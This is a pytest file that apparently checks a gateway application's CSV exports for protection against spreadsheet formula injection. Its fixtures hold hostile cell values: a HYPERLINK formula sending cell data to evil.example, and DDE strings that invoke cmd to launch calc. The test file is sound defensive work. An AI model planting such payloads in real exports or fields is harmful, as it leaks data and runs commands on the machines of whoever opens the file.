"""Every CSV export goes through ecgateway.csvout: a login, name or filter never runs as a formula.

The exports: `ecgateway restrictions export` (file and standard output), GET
/api/v1/admin/restrictions/export, GET /api/v1/admin/audit.csv, GET /admin/audit.csv and the
supervisor's GET /admin/supervisor/<figure>.csv.
Each is read back with the csv module and every text cell checked against OWASP's list of
formula starts (= + - @ tab CR).
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from ecgateway.admin import transfer
from ecgateway.audit import record
from ecgateway.auth.users import create_user
from ecgateway.cli import app
from ecgateway.obo.context import Actor

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP, "CSV Injection"

HOSTILE_LOGIN = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_FILTER = "-ABAN8 < 0 OR ABAC01 = '=1+1'"  # a filter text is copied as typed, formula-like or not


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in FORMULA_STARTS]


@pytest.fixture(scope="module")
def hostile(gw):
    """A rep whose login and name are formulas, with a restriction row and an audit entry."""
    from ecgateway.portal.models import ImpersonateRestriction
    with gw.portal() as db:
        rep = create_user(db, login=HOSTILE_LOGIN, name=HOSTILE_NAME, user_type="Internal_AR", password="x" * 20)
        db.add(ImpersonateRestriction(rep_id=rep.id, filter_text=HOSTILE_FILTER, changed_by="+cmd|calc"))
        record(db, actor=Actor.of(rep), subject_an8=gw.accounts[0], action="obo.start",
               object="=2+5", outcome="ok")
        db.commit()
        return rep.id


def test_the_restrictions_export_over_the_api_is_guarded_and_reads_back(gw, hostile):
    admin = gw.client("admin1")
    r = admin.get("/api/v1/admin/restrictions/export")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert _formula_cells(r.text) == [], "no cell may start like a formula"
    rows = {row["rep_login"]: row for row in csv.DictReader(io.StringIO(r.text))}
    assert rows["'" + HOSTILE_LOGIN]["filter_text"] == "'" + HOSTILE_FILTER
    assert rows["'" + HOSTILE_LOGIN]["changed_by"] == "'+cmd|calc"
    # and the import reads its own export back to the same rep and filter
    read = list(transfer._read(r.text))
    assert (HOSTILE_LOGIN, HOSTILE_FILTER) in [(rep, text) for _, rep, text in read]


def test_the_restrictions_export_on_the_command_line_is_guarded(gw, hostile, monkeypatch, tmp_path):
    monkeypatch.setenv("ECGW_PORTAL_URL", gw.settings.portal_url)
    monkeypatch.setenv("ECGW_JDE_URL", gw.settings.jde_url)
    monkeypatch.setenv("ECGW_DATA_DIR", str(gw.settings.data_dir))
    if gw.settings.jde_schema:
        monkeypatch.setenv("ECGW_JDE_SCHEMA", gw.settings.jde_schema)
    runner = CliRunner()
    out = tmp_path / "r.csv"
    to_file = runner.invoke(app, ["restrictions", "export", str(out)])
    assert to_file.exit_code == 0, to_file.output
    to_stdout = runner.invoke(app, ["restrictions", "export"])
    assert to_stdout.exit_code == 0 and to_stdout.stdout == out.read_text()
    assert "'" + HOSTILE_LOGIN in [row["rep_login"] for row in csv.DictReader(io.StringIO(out.read_text()))]
    assert _formula_cells(out.read_text()) == []


@pytest.mark.parametrize("path", ["/api/v1/admin/audit.csv", "/admin/audit.csv"])
def test_the_transaction_log_exports_are_guarded(gw, hostile, path):
    r = gw.client("admin1").get(path)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert _formula_cells(r.text) == []
    mine = [row for row in csv.DictReader(io.StringIO(r.text)) if row["csr"] == "'" + HOSTILE_LOGIN]
    assert mine and mine[0]["csr_name"] == "'" + HOSTILE_NAME and mine[0]["object"] == "'=2+5"


def test_numbers_stay_numbers_and_cells_are_quoted_by_the_csv_rules():
    from ecgateway.csvout import csv_chunks, rows_to_csv
    text = rows_to_csv(("n", "text", "none"), [(-5, 'a,"b"\nc', None), (7, "=1", "")])
    assert text == 'n,text,none\n-5,"a,""b""\nc",\n7,\'=1,\n'
    chunks = list(csv_chunks(("n",), ([i] for i in range(5)), chunk_rows=2))
    assert len(chunks) == 3 and "".join(chunks) == "n\n0\n1\n2\n3\n4\n"


@given(st.text())
def test_unguard_undoes_guard_and_no_guarded_cell_starts_like_a_formula(text):
    from ecgateway.csvout import guard, unguard
    assert unguard(guard(text)) == text
    assert guard(text)[:1] not in FORMULA_STARTS


def test_every_export_uses_the_one_writer():
    """No module but ecgateway.csvout makes a csv.writer (a new export cannot skip the guard)."""
    from pathlib import Path

    import ecgateway
    root = Path(ecgateway.__file__).parent
    writers = [str(p.relative_to(root)) for p in root.rglob("*.py")
               if "csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text()]
    assert writers == ["csvout.py"]


@pytest.mark.parametrize("figure", ["sessions", "accounts", "refusals", "orders"])
def test_the_supervisor_figure_exports_are_guarded(gw, hostile, figure):
    """The supervisor's CSVs (issue 18) go through the one writer: the hostile rep's login stays text."""
    r = gw.client("admin1").get(f"/admin/supervisor/{figure}.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert _formula_cells(r.text) == []
    if figure == "sessions":
        assert any(row["rep"] == "'" + HOSTILE_LOGIN for row in csv.DictReader(io.StringIO(r.text)))
